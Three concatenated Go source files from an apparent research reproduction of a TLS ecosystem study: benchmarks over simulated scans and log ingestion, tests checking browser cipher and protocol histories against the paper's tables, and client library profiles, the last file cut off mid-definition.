// --- Active-scan scalars (S1–S4): real TCP farm sweeps ---

func runCampaign(b *testing.B, date timeline.Date, hosts int) *core.CampaignReport {
	b.Helper()
	c := &core.ScanCampaign{Date: date, Hosts: hosts, Workers: 32, Seed: 7, Timeout: 3 * time.Second}
	rep, err := c.Run(context.Background())
	if err != nil {
		b.Fatal(err)
	}
	return rep
}

func BenchmarkScalarSSL3ServerSupport(b *testing.B) {
	var rep *core.CampaignReport
	for i := 0; i < b.N; i++ {
		rep = runCampaign(b, timeline.D(2018, time.May, 13), 200)
	}
	b.ReportMetric(rep.SSL3SupportPct(), "ssl3_may18_pct_paper_25")
}

func BenchmarkScalarRC4ServerChoice(b *testing.B) {
	var rep *core.CampaignReport
	for i := 0; i < b.N; i++ {
		rep = runCampaign(b, timeline.D(2015, time.September, 15), 200)
	}
	b.ReportMetric(rep.RC4ChosenPct(), "rc4_sep15_pct_paper_11.2")
	b.ReportMetric(rep.CBCChosenPct(), "cbc_sep15_pct_paper_54")
}

func BenchmarkScalarHeartbleed(b *testing.B) {
	var rep *core.CampaignReport
	for i := 0; i < b.N; i++ {
		rep = runCampaign(b, timeline.D(2018, time.May, 13), 200)
	}
	b.ReportMetric(rep.HeartbeatSupportPct(), "heartbeat_may18_pct_paper_34")
	b.ReportMetric(rep.HeartbleedVulnerablePct(), "vulnerable_may18_pct_paper_0.32")
}

func BenchmarkScalar3DESServerChoice(b *testing.B) {
	var rep *core.CampaignReport
	for i := 0; i < b.N; i++ {
		rep = runCampaign(b, timeline.D(2015, time.September, 15), 400)
	}
	b.ReportMetric(rep.TDESChosenPct(), "tdes_sep15_pct_paper_0.54")
}

// --- Passive scalars (S5–S7) ---

func BenchmarkScalarFingerprintDurations(b *testing.B) {
	agg := studyAggregate(b)
	b.ResetTimer()
	var st fingerprint.DurationStats
	for i := 0; i < b.N; i++ {
		st = fingerprint.ComputeDurationStats(agg.FPDurations())
	}
	b.ReportMetric(st.MedianDays, "median_days_paper_1")
	b.ReportMetric(float64(st.SingleDay), "single_day_fps")
}

func BenchmarkScalarCurveShares(b *testing.B) {
	agg := studyAggregate(b)
	b.ResetTimer()
	var shares []analysis.CurveShare
	for i := 0; i < b.N; i++ {
		shares = analysis.CurveSharesOverall(agg)
	}
	if len(shares) == 0 || shares[0].Curve != registry.CurveSecp256r1 {
		b.Fatal("curve shares wrong")
	}
	b.ReportMetric(shares[0].Share, "secp256r1_pct_paper_84.4")
}

func BenchmarkScalarTLS13(b *testing.B) {
	agg := studyAggregate(b)
	b.ResetTimer()
	var scalars []analysis.Scalar
	for i := 0; i < b.N; i++ {
		scalars = analysis.PassiveScalars(agg)
	}
	for _, s := range scalars {
		if s.ID == "S7c" {
			b.ReportMetric(s.Measured, "tls13_support_apr18_pct_paper_23.6")
		}
	}
}

// --- Ablations (DESIGN.md §4) ---

// Ablation 1: wire-level simulation vs struct-level fast path.
func benchSimulate(b *testing.B, wireLevel bool) {
	opts := simulate.DefaultOptions(100)
	opts.End = timeline.M(2013, time.December)
	opts.WireLevel = wireLevel
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		opts.Seed = int64(i + 1)
		if _, err := simulate.New(opts).RunAggregate(); err != nil {
			b.Fatal(err)
		}
	}
}

func BenchmarkAblationSimWireLevel(b *testing.B)   { benchSimulate(b, true) }
func BenchmarkAblationSimStructLevel(b *testing.B) { benchSimulate(b, false) }

// Ablation 5: parallel sharded simulation vs the sequential path, at the
// study configuration (800 conns/month, full window, wire level). Reports
// the serial and 8-worker wall-clock and their ratio.
func BenchmarkAblationSimParallelSpeedup(b *testing.B) {
	opts := simulate.DefaultOptions(800)
	var serial, parallel time.Duration
	for i := 0; i < b.N; i++ {
		opts.Seed = int64(i + 1)
		opts.Workers = 1
		start := time.Now()
		if _, err := simulate.New(opts).RunAggregate(); err != nil {
			b.Fatal(err)
		}
		serial += time.Since(start)
		opts.Workers = 8
		start = time.Now()
		if _, err := simulate.New(opts).RunAggregate(); err != nil {
			b.Fatal(err)
		}
		parallel += time.Since(start)
	}
	b.ReportMetric(serial.Seconds()/float64(b.N), "serial_s/op")
	b.ReportMetric(parallel.Seconds()/float64(b.N), "parallel8_s/op")
	b.ReportMetric(serial.Seconds()/parallel.Seconds(), "speedup_8workers")
}

// Worker-count sweep over the same configuration, one benchmark per width,
// for profiling scaling behaviour in isolation.
func benchSimWorkers(b *testing.B, workers int) {
	opts := simulate.DefaultOptions(800)
	opts.Workers = workers
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		opts.Seed = int64(i + 1)
		if _, err := simulate.New(opts).RunAggregate(); err != nil {
			b.Fatal(err)
		}
	}
}

func BenchmarkAblationSimWorkers1(b *testing.B) { benchSimWorkers(b, 1) }
func BenchmarkAblationSimWorkers4(b *testing.B) { benchSimWorkers(b, 4) }
func BenchmarkAblationSimWorkers8(b *testing.B) { benchSimWorkers(b, 8) }

// Ablation 2: fingerprinting with GREASE stripping vs a pre-stripped list.
func BenchmarkAblationFingerprintGREASE(b *testing.B) {
	rnd := rand.New(rand.NewSource(1))
	chrome, _ := clientdb.ProfileByName("Chrome")
	rel, _ := chrome.ReleaseByVersion("65")
	hello := rel.Config.BuildHello(rnd, false)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		_ = fingerprint.FromClientHello(hello)
	}
}

func BenchmarkAblationFingerprintNoGREASE(b *testing.B) {
	rnd := rand.New(rand.NewSource(1))
	ff, _ := clientdb.ProfileByName("Firefox")
	rel, _ := ff.ReleaseByVersion("44")
	hello := rel.Config.BuildHello(rnd, false) // Firefox sends no GREASE
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		_ = fingerprint.FromClientHello(hello)
	}
}

// Ablation 3: scanner worker-pool width against a fixed farm.
func benchScanWorkers(b *testing.B, workers int) {
	cfg := scanner.Chrome2015()
	hello := cfg.Build(rand.New(rand.NewSource(2)))
	farmCfgs, cohorts := sampleFarmConfigs(64)
	farm, err := serverfarm.StartFarm(farmCfgs, cohorts, 3*time.Second)
	if err != nil {
		b.Fatal(err)
	}
	defer farm.Close()
	sc := scanner.New(workers)
	sc.Timeout = 3 * time.Second
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		results, err := sc.Scan(context.Background(), farm.Addrs(), hello)
		if err != nil {
			b.Fatal(err)
		}
		if len(results) != 64 {
			b.Fatal("missing results")
		}
	}
}

func BenchmarkAblationScanWorkers1(b *testing.B)  { benchScanWorkers(b, 1) }
func BenchmarkAblationScanWorkers8(b *testing.B)  { benchScanWorkers(b, 8) }
func BenchmarkAblationScanWorkers32(b *testing.B) { benchScanWorkers(b, 32) }

// Ablation 4: streaming aggregation vs post-hoc log scan.
func BenchmarkAblationAggStreaming(b *testing.B) {
	opts := simulate.DefaultOptions(100)
	opts.End = timeline.M(2012, time.December)
	for i := 0; i < b.N; i++ {
		if _, err := simulate.New(opts).RunAggregate(); err != nil {
			b.Fatal(err)
		}
	}
}

func BenchmarkAblationAggPostHoc(b *testing.B) {
	opts := simulate.DefaultOptions(100)
	opts.End = timeline.M(2012, time.December)
	for i := 0; i < b.N; i++ {
		pr, pw := io.Pipe()
		done := make(chan error, 1)
		go func() {
			lw := notary.NewLogWriter(pw)
			err := simulate.New(opts).Run(lw)
			if err == nil {
				err = lw.Close()
			}
			pw.CloseWithError(err)
			done <- err
		}()
		agg := notary.NewAggregate()
		if err := notary.ReadLog(pr, agg); err != nil {
			b.Fatal(err)
		}
		if err := <-done; err != nil {
			b.Fatal(err)
		}
	}
}

// --- Sharded log ingestion (the post-hoc Notary workload) ---

var (
	logOnce  sync.Once
	logBytes []byte
)

// benchLog renders a study-shaped TSV log once per process (~55k records).
func benchLog(b *testing.B) []byte {
	b.Helper()
	logOnce.Do(func() {
		var buf bytes.Buffer
		lw := notary.NewLogWriter(&buf)
		if err := simulate.New(simulate.DefaultOptions(750)).Run(lw); err != nil {
			panic(err)
		}
		if err := lw.Close(); err != nil {
			panic(err)
		}
		logBytes = buf.Bytes()
	})
	return logBytes
}

func BenchmarkLoadLogSerial(b *testing.B) {
	log := benchLog(b)
	b.SetBytes(int64(len(log)))
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		agg := notary.NewAggregate()
		if err := notary.ReadLog(bytes.NewReader(log), agg); err != nil {
			b.Fatal(err)
		}
	}
}

func benchLoadLogParallel(b *testing.B, workers int) {
	log := benchLog(b)
	b.SetBytes(int64(len(log)))
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if _, err := notary.ReadLogParallel(bytes.NewReader(log), workers); err != nil {
			b.Fatal(err)
		}
	}
}

func BenchmarkLoadLogParallel2(b *testing.B) { benchLoadLogParallel(b, 2) }
func BenchmarkLoadLogParallel4(b *testing.B) { benchLoadLogParallel(b, 4) }
func BenchmarkLoadLogParallel8(b *testing.B) { benchLoadLogParallel(b, 8) }

// Ablation 6: sharded log ingestion vs the serial scanner, reporting the
// wall-clock of both paths and their ratio (compare with the simulation
// speedup of Ablation 5 — LoadLog should now scale the same way).
func BenchmarkAblationLoadLogSpeedup(b *testing.B) {
	log := benchLog(b)
	var serial, parallel time.Duration
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		start := time.Now()
		agg := notary.NewAggregate()
		if err := notary.ReadLog(bytes.NewReader(log), agg); err != nil {
			b.Fatal(err)
		}
		serial += time.Since(start)
		start = time.Now()
		if _, err := notary.ReadLogParallel(bytes.NewReader(log), 8); err != nil {
			b.Fatal(err)
		}
		parallel += time.Since(start)
	}
	b.ReportMetric(serial.Seconds()/float64(b.N), "serial_s/op")
	b.ReportMetric(parallel.Seconds()/float64(b.N), "parallel8_s/op")
	b.ReportMetric(serial.Seconds()/parallel.Seconds(), "speedup_8workers")
}

// sampleFarmConfigs draws deterministic host configs for the worker ablation.
func sampleFarmConfigs(n int) ([]*handshake.ServerConfig, []string) {
	rnd := rand.New(rand.NewSource(9))
	servers := population.DefaultServers()
	date := timeline.D(2016, time.June, 15)
	cfgs := make([]*handshake.ServerConfig, n)
	cohorts := make([]string, n)
	for i := 0; i < n; i++ {
		cohort, cfg := servers.Sample(date, population.ByHosts, rnd)
		cfgs[i] = cfg
		cohorts[i] = cohort.Name
	}
	return cfgs, cohorts
}
