package clientdb

import (
	"math"
	"math/rand"
	"testing"
	"time"

	"tlsage/internal/registry"
	"tlsage/internal/timeline"
)

func TestAllProfilesValidate(t *testing.T) {
	profiles := AllProfiles()
	if len(profiles) < 20 {
		t.Fatalf("expected ≥20 profiles, got %d", len(profiles))
	}
	seen := map[string]bool{}
	for _, p := range profiles {
		if err := p.Validate(); err != nil {
			t.Errorf("%s: %v", p.Name, err)
		}
		if seen[p.Name] {
			t.Errorf("duplicate profile name %s", p.Name)
		}
		seen[p.Name] = true
	}
}

func TestProfileByName(t *testing.T) {
	p, ok := ProfileByName("Chrome")
	if !ok || p.Class != ClassBrowser {
		t.Fatal("Chrome lookup failed")
	}
	if _, ok := ProfileByName("Netscape"); ok {
		t.Error("unexpected profile found")
	}
}

func TestMixSumsToOne(t *testing.T) {
	dates := []timeline.Date{
		timeline.D(2012, time.March, 15),
		timeline.D(2014, time.June, 15),
		timeline.D(2016, time.January, 15),
		timeline.D(2018, time.April, 15),
	}
	for _, p := range AllProfiles() {
		for _, d := range dates {
			mix := p.MixAt(d)
			if len(mix) != len(p.Releases) {
				t.Fatalf("%s: mix length %d != releases %d", p.Name, len(mix), len(p.Releases))
			}
			sum := 0.0
			for _, v := range mix {
				if v < -1e-12 {
					t.Fatalf("%s at %v: negative share", p.Name, d)
				}
				sum += v
			}
			if math.Abs(sum-1) > 1e-9 {
				t.Fatalf("%s at %v: mix sums to %v", p.Name, d, sum)
			}
		}
	}
}

func TestSampleReleaseDeterministicBounds(t *testing.T) {
	rnd := rand.New(rand.NewSource(7))
	p, _ := ProfileByName("Firefox")
	d := timeline.D(2015, time.June, 15)
	for i := 0; i < 200; i++ {
		idx := p.SampleRelease(d, rnd)
		if idx < 0 || idx >= len(p.Releases) {
			t.Fatalf("index out of range: %d", idx)
		}
		// In mid-2015 Firefox 60 (2018) must never be sampled.
		if p.Releases[idx].Version == "60" {
			t.Fatal("future release sampled")
		}
	}
}

// Table 3 of the paper: CBC cipher-suite count changes.
func TestTable3CBC(t *testing.T) {
	rows := Table3CBC()
	want := []struct {
		browser, version string
		before, after    int
	}{
		{"Firefox", "27", 29, 17},
		{"Firefox", "33", 17, 10},
		{"Firefox", "37", 10, 9},
		{"Firefox", "60", 9, 5},
		{"Chrome", "29", 29, 16},
		{"Chrome", "31", 16, 10},
		{"Chrome", "41", 10, 9},
		{"Chrome", "49", 9, 7},
		{"Chrome", "56", 7, 5},
		{"Opera", "15", 25, 29},
		{"Opera", "16", 29, 16},
		{"Opera", "18", 16, 10},
		{"Opera", "28", 10, 9},
		{"Opera", "30", 9, 7},
		{"Opera", "43", 7, 5},
		{"Safari", "7.1", 28, 30},
		{"Safari", "9", 30, 15},
		{"Safari", "10.1", 15, 12},
	}
	for _, w := range want {
		row, ok := FindRow(rows, w.browser, w.version)
		if !ok {
			t.Errorf("Table 3 missing row %s %s", w.browser, w.version)
			continue
		}
		if row.Before != w.before || row.After != w.after {
			t.Errorf("Table 3 %s %s: %d→%d, want %d→%d",
				w.browser, w.version, row.Before, row.After, w.before, w.after)
		}
	}
}

// Table 4: RC4 support changes, including the Firefox fallback-only phase
// and complete removals.
func TestTable4RC4(t *testing.T) {
	rows := Table4RC4()
	type want struct {
		browser, version string
		after            int
		note             string
	}
	checks := []want{
		{"Firefox", "27", 4, ""},
		{"Firefox", "36", 0, "fallback only"},
		{"Firefox", "44", 0, "removed completely"},
		{"Chrome", "29", 4, ""},
		{"Chrome", "43", 0, "removed completely"},
		{"Opera", "15", 6, ""},
		{"Opera", "16", 4, ""},
		{"Opera", "30", 0, "removed completely"},
		{"IE/Edge", "13", 0, "removed completely"},
		{"Safari", "6", 6, ""},
		{"Safari", "9", 4, ""},
		{"Safari", "10", 0, "removed completely"},
	}
	for _, w := range checks {
		row, ok := FindRow(rows, w.browser, w.version)
		if !ok {
			t.Errorf("Table 4 missing row %s %s", w.browser, w.version)
			continue
		}
		if row.After != w.after || row.Note != w.note {
			t.Errorf("Table 4 %s %s: after=%d note=%q, want after=%d note=%q",
				w.browser, w.version, row.After, row.Note, w.after, w.note)
		}
	}
}

// Table 5: 3DES support changes.
func TestTable53DES(t *testing.T) {
	rows := Table53DES()
	checks := []struct {
		browser, version string
		before, after    int
	}{
		{"Firefox", "27", 8, 3},
		{"Firefox", "33", 3, 1},
		{"Chrome", "29", 8, 1},
		{"Opera", "16", 8, 1},
		{"Safari", "7.1", 7, 6},
		{"Safari", "9", 6, 3},
	}
	for _, w := range checks {
		row, ok := FindRow(rows, w.browser, w.version)
		if !ok {
			t.Errorf("Table 5 missing row %s %s", w.browser, w.version)
			continue
		}
		if row.Before != w.before || row.After != w.after {
			t.Errorf("Table 5 %s %s: %d→%d, want %d→%d",
				w.browser, w.version, row.Before, row.After, w.before, w.after)
		}
	}
	// All major browsers still ship 3DES at the end of the study (§5.6).
	for _, name := range []string{"Firefox", "Chrome", "Opera", "Safari", "IE/Edge"} {
		p, _ := ProfileByName(name)
		last := p.Releases[len(p.Releases)-1].Config
		if last.CountWhere(registry.Suite.Is3DES) == 0 {
			t.Errorf("%s final config dropped 3DES; the paper says all browsers kept it", name)
		}
	}
}

// Table 6: protocol version support changes.
func TestTable6Versions(t *testing.T) {
	rows := Table6Versions()
	find := func(browser, version string) (VersionSupportRow, bool) {
		for _, r := range rows {
			if r.Browser == browser && r.Version == version {
				return r, true
			}
		}
		return VersionSupportRow{}, false
	}
	checks := []struct {
		browser, version, substr string
	}{
		{"Firefox", "27", "TLSv12 supported"},
		{"Firefox", "37", "SSL 3 fallback removed"},
		{"Firefox", "60", "TLSv13 supported"},
		{"Chrome", "22", "TLSv11 supported"},
		{"Chrome", "29", "TLSv12 supported"},
		{"Chrome", "39", "SSL 3 fallback removed"},
		{"Chrome", "65", "TLSv13 supported"},
		{"IE/Edge", "11", "TLSv12 supported"},
		{"Opera", "16", "TLSv11 supported"},
		{"Opera", "27", "SSL 3 fallback removed"},
		{"Safari", "7", "TLSv12 supported"},
		{"Safari", "9", "SSL 3 fallback removed"},
	}
	for _, w := range checks {
		row, ok := find(w.browser, w.version)
		if !ok {
			t.Errorf("Table 6 missing row %s %s", w.browser, w.version)
			continue
		}
		if !containsStr(row.Support, w.substr) {
			t.Errorf("Table 6 %s %s: %q does not mention %q", w.browser, w.version, row.Support, w.substr)
		}
	}
}

func containsStr(haystack, needle string) bool {
	return len(haystack) >= len(needle) && (haystack == needle || indexOf(haystack, needle) >= 0)
}

func indexOf(h, n string) int {
	for i := 0; i+len(n) <= len(h); i++ {
		if h[i:i+len(n)] == n {
			return i
		}
	}
	return -1
}

func TestBuildHelloWire(t *testing.T) {
	rnd := rand.New(rand.NewSource(1))
	for _, p := range AllProfiles() {
		for _, rel := range p.Releases {
			ch := rel.Config.BuildHello(rnd, false)
			raw, err := ch.MarshalBinary()
			if err != nil {
				t.Fatalf("%s %s: %v", p.Name, rel.Version, err)
			}
			if len(raw) == 0 {
				t.Fatalf("%s %s: empty hello", p.Name, rel.Version)
			}
		}
	}
}

func TestBuildHelloGREASE(t *testing.T) {
	rnd := rand.New(rand.NewSource(2))
	p, _ := ProfileByName("Chrome")
	rel, ok := p.ReleaseByVersion("65")
	if !ok {
		t.Fatal("Chrome 65 missing")
	}
	ch := rel.Config.BuildHello(rnd, false)
	if !registry.IsGREASE(ch.CipherSuites[0]) {
		t.Error("Chrome 65 hello should lead with a GREASE suite")
	}
	groups := ch.SupportedGroups()
	if len(groups) == 0 || !registry.IsGREASE(uint16(groups[0])) {
		t.Error("Chrome 65 groups should lead with GREASE")
	}
	svs := ch.SupportedVersions()
	if len(svs) == 0 || !registry.IsGREASE(uint16(svs[0])) {
		t.Error("Chrome 65 supported_versions should lead with GREASE")
	}
	// GREASE never changes the semantic max version.
	if ch.MaxSupportedVersion() != registry.VersionTLS13 {
		t.Errorf("MaxSupportedVersion = %v", ch.MaxSupportedVersion())
	}
}

func TestBuildHelloRC4FallbackOnly(t *testing.T) {
	rnd := rand.New(rand.NewSource(3))
	p, _ := ProfileByName("Firefox")
	rel, _ := p.ReleaseByVersion("36")
	primary := rel.Config.BuildHello(rnd, false)
	if registry.ListHas(primary.CipherSuites, registry.Suite.IsRC4) {
		t.Error("FF36 primary hello must not offer RC4")
	}
	retry := rel.Config.BuildHello(rnd, true)
	if !registry.ListHas(retry.CipherSuites, registry.Suite.IsRC4) {
		t.Error("FF36 fallback hello must offer RC4")
	}
	// Fallback retries carry the SCSV.
	found := false
	for _, s := range retry.CipherSuites {
		if s == 0x5600 {
			found = true
		}
	}
	if !found {
		t.Error("fallback hello missing TLS_FALLBACK_SCSV")
	}
}

func TestHeartbeatAdvertisedByOpenSSL(t *testing.T) {
	rnd := rand.New(rand.NewSource(4))
	p, _ := ProfileByName("OpenSSL")
	for _, v := range []string{"1.0.1", "1.0.1g", "1.0.2"} {
		rel, ok := p.ReleaseByVersion(v)
		if !ok {
			t.Fatalf("OpenSSL %s missing", v)
		}
		if !rel.Config.BuildHello(rnd, false).OffersHeartbeat() {
			t.Errorf("OpenSSL %s should advertise heartbeat", v)
		}
	}
	rel, _ := p.ReleaseByVersion("1.1.0")
	if rel.Config.BuildHello(rnd, false).OffersHeartbeat() {
		t.Error("OpenSSL 1.1.0 should not advertise heartbeat")
	}
}

func TestOddClientsOfferWeakSuites(t *testing.T) {
	cases := []struct {
		profile string
		pred    func(registry.Suite) bool
		label   string
	}{
		{"Lookout Personal", registry.Suite.IsNULLCipher, "NULL"},
		{"Lookout Personal", registry.Suite.IsAnon, "anonymous"},
		{"Craftar Image Recognition", registry.Suite.IsNULLCipher, "NULL"},
		{"Shodan scanner", registry.Suite.IsAnon, "anonymous"},
		{"Kaspersky", registry.Suite.IsAnon, "anonymous"},
		{"Nagios check_tcp", registry.Suite.IsAnon, "anonymous"},
		{"InstallMoney", registry.Suite.IsExport, "export"},
		{"Globus GridFTP", registry.Suite.IsNULLCipher, "NULL"},
	}
	for _, c := range cases {
		p, ok := ProfileByName(c.profile)
		if !ok {
			t.Fatalf("profile %s missing", c.profile)
		}
		if !p.Releases[len(p.Releases)-1].Config.Offers(c.pred) {
			t.Errorf("%s should offer %s suites", c.profile, c.label)
		}
	}
}

func TestAndroid23MatchesPaperDescription(t *testing.T) {
	// §7.2: Android 2.3 supports only TLS 1.0 and neither ECDHE nor AEAD.
	p, _ := ProfileByName("Android SDK")
	rel, _ := p.ReleaseByVersion("2.3")
	cfg := rel.Config
	if cfg.MaxVersion() != registry.VersionTLS10 {
		t.Error("Android 2.3 must top out at TLS 1.0")
	}
	if cfg.Offers(func(s registry.Suite) bool { return s.Kex == registry.KexECDHE }) {
		t.Error("Android 2.3 must not offer ECDHE")
	}
	if cfg.Offers(registry.Suite.IsAEAD) {
		t.Error("Android 2.3 must not offer AEAD")
	}
}

func TestClassesCoverTable2(t *testing.T) {
	have := map[Class]int{}
	for _, p := range AllProfiles() {
		have[p.Class]++
	}
	for _, c := range AllClasses() {
		if have[c] == 0 {
			t.Errorf("no profile in class %q (Table 2 row would be empty)", c)
		}
	}
}

func TestTableRowStrings(t *testing.T) {
	rows := Table4RC4()
	if len(rows) == 0 {
		t.Fatal("no Table 4 rows")
	}
	for _, r := range rows {
		if r.String() == "" {
			t.Fatal("empty row rendering")
		}
	}
	vrows := Table6Versions()
	if len(vrows) == 0 || vrows[0].String() == "" {
		t.Fatal("Table 6 rendering broken")
	}
}
