package clientdb

import (
	"time"

	"tlsage/internal/adoption"
	"tlsage/internal/registry"
)

// Library, tool and long-tail client profiles. These carry the study's
// slow-moving mass: OS-bundled TLS stacks, abandoned devices, security
// middleware, malware with statically linked libraries, and the odd clients
// behind the NULL/anonymous/export findings. Their lag distributions are the
// source of every "embarrassingly high" number in the paper.

var (
	appleLag = adoption.LagDistribution{FastShare: 0.60, FastTauDays: 40, SlowTauDays: 300, NeverShare: 0.015}
	// androidLag: Android traffic is dominated by recent handsets even
	// though abandoned Gingerbread devices linger (§7.2) — traffic turns
	// over in about two years.
	androidLag = adoption.LagDistribution{FastShare: 0.40, FastTauDays: 90, SlowTauDays: 380, NeverShare: 0.015}
)

var openssl = &Profile{
	Name:  "OpenSSL",
	Class: ClassLibrary,
	Lag:   adoption.LibraryLag,
	Releases: []VersionConfig{
		// 0.9.8-era default build: export, DES, RC4, no TLS >1.0. The
		// residue of this config is what keeps export advertisement at
		// 28.19% of connections in 2012 (§5.5, Figure 7).
		{"0.9.8", d(2012, time.January, 1), Config{
			LegacyVersion: registry.VersionTLS10, MinVersion: registry.VersionSSL2,
			Suites: concat(take(cbcAESPool, 14), take(rc4Pool, 3), take(tdesPool, 3),
				desPool, take(exportPool, 5)),
			Extensions: extsMinimal, SSL3Fallback: true, SSLv2Compat: false,
		}},
		// 1.0.1 (14 Mar 2012): first TLS 1.2 + AES-GCM release — and the
		// release that introduced the heartbeat extension (§5.4).
		{"1.0.1", d(2012, time.March, 14), Config{
			LegacyVersion: registry.VersionTLS12, MinVersion: registry.VersionSSL3,
			Suites: concat(take(aeadPool, 4), take(cbcAESPool, 12), take(rc4Pool, 2),
				take(tdesPool, 2), take(desPool, 1)),
			Extensions: extsOpenSSL101, Curves: curvesClassic, PointFormats: pfAll,
			HeartbeatMode: 1, SSL3Fallback: true,
		}},
		// 1.0.1g (7 Apr 2014): the Heartbleed fix. The heartbeat extension
		// is still advertised — only the buffer over-read was patched.
		{"1.0.1g", d(2014, time.April, 7), Config{
			LegacyVersion: registry.VersionTLS12, MinVersion: registry.VersionSSL3,
			Suites: concat(take(aeadPool, 4), take(cbcAESPool, 12), take(rc4Pool, 2),
				take(tdesPool, 2)),
			Extensions: extsOpenSSL101, Curves: curvesClassic, PointFormats: pfAll,
			HeartbeatMode: 1, SSL3Fallback: true,
		}},
		// 1.0.2 (22 Jan 2015): export and DES gone from the default list.
		{"1.0.2", d(2015, time.January, 22), Config{
			LegacyVersion: registry.VersionTLS12, MinVersion: registry.VersionSSL3,
			Suites: concat(take(aeadPool, 6), take(cbcAESPool, 10), take(rc4Pool, 2),
				take(tdesPool, 2)),
			Extensions: extsOpenSSL101, Curves: curvesClassic, PointFormats: pfAll,
			HeartbeatMode: 1,
		}},
		// 1.1.0 (25 Aug 2016): RC4 and SSL3 removed; ChaCha20 and x25519
		// added; heartbeat finally dropped.
		{"1.1.0", d(2016, time.August, 25), Config{
			LegacyVersion: registry.VersionTLS12, MinVersion: registry.VersionTLS10,
			Suites:     concat(take(aeadPool, 6), take(cbcAESPool, 8)),
			Extensions: extsEra2016, Curves: curvesClassic, PointFormats: pfUncompressed,
		}},
		// 1.1.1 pre-releases (Feb 2018): TLS 1.3 draft support — the
		// "compiling new versions of libraries" uptake of §6.4.
		{"1.1.1-pre", d(2018, time.February, 13), Config{
			LegacyVersion: registry.VersionTLS12, MinVersion: registry.VersionTLS10,
			SupportedVersions: []registry.Version{
				registry.VersionTLS13Draft18, registry.VersionTLS12,
				registry.VersionTLS11, registry.VersionTLS10,
			},
			Suites: concat([]uint16{0x1301, 0x1302, 0x1303},
				take(aeadPool, 6), take(cbcAESPool, 8)),
			Extensions: extsEra2018, Curves: curvesModern, PointFormats: pfUncompressed,
		}},
	},
}

var androidSDK = &Profile{
	Name:  "Android SDK",
	Class: ClassLibrary,
	Lag:   androidLag,
	Releases: []VersionConfig{
		// Android 2.3 (Gingerbread): TLS 1.0 only, no ECDHE, no AEAD — the
		// §7.2 example of why servers keep legacy suites. RC4-MD5 led the
		// platform default list.
		{"2.3", d(2012, time.January, 1), Config{
			LegacyVersion: registry.VersionTLS10, MinVersion: registry.VersionSSL3,
			Suites: []uint16{0x0004, 0x0005, 0x002F, 0x0035, 0x0033, 0x0039,
				0x000A, 0x0016, 0x0009, 0x0015},
			Extensions: extsMinimal, SSL3Fallback: true,
		}},
		// Android 4.x: ECDHE CBC suites appear.
		{"4.x", d(2012, time.November, 13), Config{
			LegacyVersion: registry.VersionTLS10, MinVersion: registry.VersionSSL3,
			Suites: concat(take(cbcAESPool, 12), take(rc4Pool, 4), take(tdesPool, 1),
				take(desPool, 1)),
			Extensions: extsEra2012, Curves: curvesClassic, PointFormats: pfUncompressed,
			SSL3Fallback: true,
		}},
		// Android 5.0: TLS 1.2 by default, AES-GCM.
		{"5.0", d(2014, time.November, 12), Config{
			LegacyVersion: registry.VersionTLS12, MinVersion: registry.VersionSSL3,
			Suites:     browserList(4, 8, 1, 2),
			Extensions: extsEra2014, Curves: curvesClassic, PointFormats: pfUncompressed,
			SSL3Fallback: true,
		}},
		// Android 6.0: RC4 and SSL3 fallback removed.
		{"6.0", d(2015, time.October, 5), Config{
			LegacyVersion: registry.VersionTLS12, MinVersion: registry.VersionTLS10,
			Suites:     browserList(4, 8, 1, 0),
			Extensions: extsEra2014, Curves: curvesClassic, PointFormats: pfUncompressed,
		}},
		// Android 7.0: ChaCha20-Poly1305 preferred, x25519; 3DES dropped
		// post-Sweet32 (the Figure 3 decline to 69%).
		{"7.0", d(2016, time.August, 22), Config{
			LegacyVersion: registry.VersionTLS12, MinVersion: registry.VersionTLS10,
			Suites:     browserList(6, 6, 0, 0),
			Extensions: extsEra2016, Curves: curvesClassic, PointFormats: pfUncompressed,
		}},
		// Android 8.0.
		{"8.0", d(2017, time.August, 21), Config{
			LegacyVersion: registry.VersionTLS12, MinVersion: registry.VersionTLS10,
			Suites:     browserList(6, 4, 0, 0),
			Extensions: extsEra2016, Curves: curvesModern, PointFormats: pfUncompressed,
		}},
		// March 2018: Chrome 65 on Android rolls out the experimental
		// TLS 1.3 variant — part of the §6.4 Feb→Apr client-support jump,
		// attributed to "Android SDK" by the fingerprint DB.
		{"8.1-tls13", d(2018, time.March, 7), Config{
			LegacyVersion: registry.VersionTLS12, MinVersion: registry.VersionTLS10,
			SupportedVersions: []registry.Version{
				registry.VersionTLS13Google, registry.VersionTLS12,
				registry.VersionTLS11, registry.VersionTLS10,
			},
			Suites: concat([]uint16{0x1301, 0x1303, 0x1302},
				browserList(6, 4, 0, 0)),
			Extensions: extsEra2018, Curves: curvesModern, PointFormats: pfUncompressed,
		}},
	},
}

var appleST = &Profile{
	Name:  "Apple Secure Transport",
	Class: ClassLibrary,
	Lag:   appleLag,
	Releases: []VersionConfig{
		// iOS 5 / OS X 10.7 era.
		{"iOS5", d(2012, time.January, 1), Config{
			LegacyVersion: registry.VersionTLS10, MinVersion: registry.VersionSSL3,
			Suites:     browserList(0, 20, 4, 4),
			Extensions: extsEra2012, Curves: curvesClassic, PointFormats: pfAll,
			SSL3Fallback: true,
		}},
		// iOS 7: TLS 1.2.
		{"iOS7", d(2013, time.September, 18), Config{
			LegacyVersion: registry.VersionTLS12, MinVersion: registry.VersionSSL3,
			Suites:     browserList(0, 20, 4, 4),
			Extensions: extsEra2014, Curves: curvesClassic, PointFormats: pfAll,
			SSL3Fallback: true,
		}},
		// iOS 9: App Transport Security, AES-GCM.
		{"iOS9", d(2015, time.September, 16), Config{
			LegacyVersion: registry.VersionTLS12, MinVersion: registry.VersionTLS10,
			Suites:     browserList(4, 12, 3, 4),
			Extensions: extsEra2014, Curves: curvesClassic, PointFormats: pfUncompressed,
		}},
		// iOS 10: RC4 removed.
		{"iOS10", d(2016, time.September, 13), Config{
			LegacyVersion: registry.VersionTLS12, MinVersion: registry.VersionTLS10,
			Suites:     browserList(4, 12, 3, 0),
			Extensions: extsEra2016, Curves: curvesClassic, PointFormats: pfUncompressed,
		}},
		// iOS 11.
		{"iOS11", d(2017, time.September, 19), Config{
			LegacyVersion: registry.VersionTLS12, MinVersion: registry.VersionTLS10,
